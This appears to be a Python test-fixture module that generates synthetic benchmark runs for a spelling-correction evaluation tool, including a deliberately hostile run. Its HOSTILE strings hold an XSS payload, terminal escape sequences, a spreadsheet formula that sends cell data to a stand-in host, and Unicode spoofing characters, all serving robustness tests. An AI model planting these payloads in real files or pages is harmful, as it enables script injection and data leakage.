"""A run made by construction: every offset, verdict and class is known because the answer was built from it.

No scorer is involved, so the report is tested against what was written, not against another program's view.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import msgspec

from stetmark.records import Answer, Change, EditVerdict, GoldEdit, Item, Manifest, Score, Usage

__all__ = ["HOSTILE", "Made", "hostile_run", "make_run", "write_run"]

SENTENCES = {
    "en": (
        "The harbour master keeps a ledger of every vessel that enters before dawn -- a habit older than the lamps.",
        'She wrote "yes" on the card, folded it twice, and left it under the third flowerpot from the door.',
        "When the kettle began to sing, nobody in the workshop looked up; they had heard it every day for years.",
        "A map that shows everything is as useless as a map that shows nothing, he liked to say to beginners.",
        "The second trial ran for nine weeks, and the results were weaker than the first had led us to expect.",
        "Please return the borrowed tools by Friday, rinse the buckets, and write your name on the sheet.",
        "Rain fell on the upper fields all night; by morning the lower road had become a shallow river.",
        "Our cafe\u0301 serves two kinds of bread 🍞 and one of soup, and the soup is different every Tuesday.",
    ),
    "zh": (
        "清晨的码头很安静，只有几只海鸟沿着栏杆慢慢走动，好像在检查昨夜留下的绳索。",
        "他把信折好放进抽屉，决定等雨停以后再去车站，因为那条路一下雨就很难走。",
        "实验重复了三次，结果都与最初的设想不同，于是大家重新讨论了测量的方法。",
        "图书馆的旧书需要定期翻晒，否则潮气会让纸张变黄，字迹也会慢慢变得模糊。",
    ),
    "ar": ("ذهب الولد إلى المدرسة في الصباح الباكر وعاد مع أصدقائه قبل غروب الشمس بقليل.",),
}
TIERS = {"light": 1, "medium": 4, "heavy": 8, "clean": 0}
_ZH_TWINS = {"的": "地", "在": "再", "书": "树", "以": "已", "晒": "洒", "静": "净", "路": "录", "与": "于"}


@dataclass
class Made:
    """What a run folder holds, in memory."""

    manifest: Manifest
    items: list[Item]
    answers: list[Answer] = field(default_factory=list)
    scores: list[Score] = field(default_factory=list)


@dataclass(frozen=True)
class Behaviour:
    """How often a system corrects a slot, spoils it, meddles elsewhere, wraps its answer, fails."""

    corrects: float
    spoils: float
    meddles: float
    wraps: float = 0.0
    fails: float = 0.0
    refuses: float = 0.0


def _misspell(word: str, lang: str, rng: random.Random) -> str:
    if lang == "zh":
        return _ZH_TWINS.get(word, "得")
    at = rng.randrange(len(word) - 1)
    swapped = word[:at] + word[at + 1] + word[at] + word[at + 2 :]
    return swapped if swapped != word else word + word[-1]


def _words(text: str, lang: str) -> list[tuple[int, int]]:
    """Spans of words long enough to be misspelt; one character each in Chinese."""
    if lang == "zh":
        return [(i, i + 1) for i, c in enumerate(text) if c in _ZH_TWINS]
    spans, start = [], None
    for i, c in enumerate(text + " "):
        if c.isalpha():
            start = i if start is None else start
        elif start is not None:
            if i - start > 3:
                spans.append((start, i))
            start = None
    return spans


def _item(number: int, rng: random.Random) -> Item:
    lang = ("en", "en", "en", "zh", "ar")[number % 5] if number % 20 else "en"
    tier = list(TIERS)[(number // 5) % len(TIERS)]
    pool = SENTENCES[lang]
    first = rng.randrange(len(pool))
    # Every third item has two paragraphs.
    glue = "\n\n" if number % 3 == 0 else ("" if lang == "zh" else " ")
    reference = glue.join(pool[(first + k) % len(pool)] for k in range(min(4, len(pool))))
    spans = _words(reference, lang)
    chosen = sorted(rng.sample(spans, min(TIERS[tier], len(spans) // 2)))
    edits, source, at = [], "", 0
    for start, end in chosen:
        source += reference[at:start]
        wrong = _misspell(reference[start:end], lang, rng)
        edits.append(
            GoldEdit(start=len(source), end=len(source) + len(wrong), replacement=reference[start:end])
        )
        source, at = source + wrong, end
    source += reference[at:]
    return Item(
        id=f"made-{number:04d}",
        text=f"text-{number // 2}",
        lang=lang,
        tier=tier,
        source=source,
        reference=reference,
        edits=tuple(edits),
    )


def _meddle(reference: str, start: int, end: int, rng: random.Random) -> tuple[str, str]:
    """(class, what stands there instead) for an untouched word."""
    word = reference[start:end]
    which = rng.randrange(5)
    if which == 0:
        return "case", word.upper() if word.upper() != word else word + word
    if which == 1:
        return "reworded", "thing" if word != "thing" else "matter"
    if which == 2:
        return "deleted", ""
    if which == 3:
        return "unicode", "\u202e" + word + "\u200b\xa0"
    return "inserted", word + " 😀 very"


def _score(item: Item, system: str, how: Behaviour, rng: random.Random) -> tuple[Answer, Score | None]:
    if rng.random() < how.fails:
        return Answer(item=item.id, system=system, outcome="failed", error="HTTP 503 <busy>"), None
    edits, changes, hyp, at = [], [], "", 0
    assert item.edits is not None
    assert item.source is not None
    refs = []  # each slot's place in the reference
    shift = 0
    for g in item.edits:
        refs.append((g.start + shift, g.start + shift + len(g.replacement)))
        shift += len(g.replacement) - (g.end - g.start)
    free = [s for s in _words(item.reference, item.lang) if s not in refs]
    meddled = {s for s in free if rng.random() < how.meddles / max(1, len(free))}
    events = sorted([(s, None) for s in meddled] + [(r, k) for k, r in enumerate(refs)])
    refused = rng.random() < how.refuses
    for (start, end), slot in events:
        hyp += item.reference[at:start]
        at = end
        right = item.reference[start:end]
        if slot is None:
            class_, text = _meddle(item.reference, start, end, rng)
            changes.append(
                Change(
                    class_=class_, reference=right, hypothesis=text,
                    start=start, end=end, hyp_start=len(hyp), hyp_end=len(hyp) + len(text),
                )
            )  # fmt: skip
            hyp += text
            continue
        gold = item.edits[slot]
        wrong = item.source[gold.start : gold.end]
        roll = rng.random()
        if roll < how.corrects:
            verdict, text = "corrected", right
        elif roll < how.corrects + how.spoils:
            verdict, text = "miscorrected", right + "x"
        else:
            verdict, text = "missed", wrong
        edits.append(
            EditVerdict(
                verdict=verdict, source=wrong, reference=right, hypothesis=text,
                start=gold.start, end=gold.end, hyp_start=len(hyp), hyp_end=len(hyp) + len(text),
            )
        )  # fmt: skip
        hyp += text
    hyp += item.reference[at:]
    if refused:
        reply = "I am sorry, I cannot help with that."
        missed = tuple(
            EditVerdict(
                verdict="missed", source=e.source, reference=e.reference, hypothesis="",
                start=e.start, end=e.end, hyp_start=0, hyp_end=0,
            )
            for e in edits
        )  # fmt: skip
        score = Score(
            item=item.id, system=system, outcome="refused", strict=False, exact=False, livebench=False,
            assessable=False, envelope=("refused",), hypothesis=reply, edits=missed,
        )  # fmt: skip
        return Answer(item=item.id, system=system, outcome="refused", reply=reply), score
    wrapped = rng.random() < how.wraps
    before = "Here is the text:\n\n" if wrapped else ""
    exact = hyp == item.reference
    score = Score(
        item=item.id, system=system, strict=exact and not wrapped, exact=exact, livebench=exact,
        envelope=("preamble",) if wrapped else (), hypothesis=hyp, hypothesis_start=len(before),
        edits=tuple(edits), changes=tuple(changes), n_words=len(free), n_changes=len(changes),
        n_unneeded=len(changes), folds=("case",) if changes and all(c.class_ == "case" for c in changes) else (),
    )  # fmt: skip
    answer = Answer(
        item=item.id, system=system, outcome="complete", reply=before + hyp, latency_s=0.2 + rng.random(),
        cost_usd=0.0001, usage=Usage(input_tokens=120, output_tokens=110), served_model="made-1",
        at="2026-11-22T12:00:00Z",
    )  # fmt: skip
    return answer, score


def behaviours(n: int) -> dict[str, Behaviour]:
    """n systems, from one that is nearly perfect to one that rewrites."""
    named = {
        "alpha:careful-1": Behaviour(0.98, 0.01, 0.02),
        "alpha:careful-1?effort=high": Behaviour(0.97, 0.02, 0.05),
        "beta:chatty": Behaviour(0.96, 0.02, 0.6, wraps=0.5),
        "gamma:polisher-xl-instruct-2026-10": Behaviour(0.95, 0.03, 2.5, fails=0.06),
        "local:copy": Behaviour(0, 0, 0),
        "金声:示例": Behaviour(0.9, 0.05, 0.3, refuses=0.05),
        "local:spelling <script>": Behaviour(0.6, 0.2, 0.8),
    }
    for k in range(len(named), n):
        named[f"made:system-{k}"] = Behaviour(0.99 - 0.02 * k, 0.02, 0.05 * k)
    return dict(list(named.items())[:n])


def rows(items: list[Item], n_systems: int, seed: int) -> Iterator[tuple[Answer, Score | None]]:
    """Answers with their scores, item by item."""
    rng = random.Random(seed)
    for item in items:
        for system, how in behaviours(n_systems).items():
            yield _score(item, system, how, rng)


def make_run(n_items: int = 40, n_systems: int = 7, seed: int = 1) -> Made:
    """Make a run of made systems on made items."""
    rng = random.Random(seed)
    items = [_item(k, rng) for k in range(n_items)]
    made = Made(
        manifest=Manifest(
            stetmark="0.1.0",
            created="2026-11-22T12:00:00Z",
            items_sha256="0" * 64,
            items_name="made",
            systems={
                name: {"preset": name.split(":")[0], "model": "made-1"} for name in behaviours(n_systems)
            },
            prompts={"en": {"text": "Fix the misspellings.\nChange nothing else.", "sha256": "ab12"}},
            prices={"alpha:careful-1": {"input_per_million_usd": 0.5, "output_per_million_usd": 1.5}},
            versions={"stetmark": "0.1.0", "python": "3.11.2"},
            signature="stetmark:0.1.0|rung:exact|beta:0.5|items:000000000000",
            argv=("stetmark", "run", "items.jsonl"),
        ),
        items=items,
    )
    for answer, score in rows(items, n_systems, seed):
        made.answers.append(answer)
        if score is not None:
            made.scores.append(score)
    return made


ESC = "\x1b]0;owned\x07\x1b[31mred\x1b[2J"
HOSTILE = (
    '</script><img src=x onerror="window.owned=1"><script>window.owned=1</script>',
    ESC + " and then the text goes on as it was before",
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "{{ 7*7 }} ${7*7} <!-- --> ]]> &lt;b&gt; \\u003cscript\\u003e",
    "a | b \\| c\r\nsecond\tline\u2028third \u202egnirts\u202c done\u200b\xa0.",
)


def hostile_run() -> Made:
    """Items whose every text is an attack, answered in four hostile ways and judged by the real scorer."""
    from stetmark.judging.judge import score_text

    made = Made(
        manifest=Manifest(
            stetmark="0.1.0", created="2026-11-22T12:00:00Z", items_sha256="1" * 64,
            items_name=HOSTILE[0], argv=("stetmark", HOSTILE[0]), notes=(HOSTILE[0],),
            systems={HOSTILE[0]: {"note": HOSTILE[0]}}, prompts={HOSTILE[2]: {"text": HOSTILE[0]}},
        ),
        items=[],
    )  # fmt: skip
    for number, attack in enumerate(HOSTILE):
        reference = f"The first part stands here. {attack} And the last part stands there."
        source = reference.replace("first", "frist").replace("last", "lsat")
        item = Item(id=f"x{number} {attack}", source=source, reference=reference, lang="en", tier=attack[:20])
        made.items.append(item)
        replies = {
            "copies": source,
            HOSTILE[0]: reference,
            HOSTILE[2]: reference.replace("stands", attack, 1),
            "wraps\x1b[2J": f"Sure! {attack}:\n\n{reference}\n\n{attack}",
        }
        for system, reply in replies.items():
            score = score_text(item.source, item.reference, reply)
            made.scores.append(msgspec.structs.replace(score, item=item.id, system=system))
            made.answers.append(Answer(item=item.id, system=system, outcome="complete", reply=reply))
        made.answers.append(Answer(item=item.id, system="fails", outcome="failed", error=attack))
    return made


def write_run(made: Made, path: Path) -> Path:
    """Write a made run as a run folder with scores and summary."""
    from stetmark.statistics.summarize import summarize
    from stetmark.store import RunFolder, write_jsonl
    from stetmark.summary import dump_summary

    folder = RunFolder.create(path, made.manifest, made.items)
    with folder.append_answers() as appender:
        for answer in made.answers:
            appender.append(answer)
    write_jsonl(folder.path / "scores.jsonl", made.scores)
    summary = summarize(made.items, made.scores, made.answers, signature=made.manifest.signature)
    folder.write_summary(dump_summary(summary))
    return path
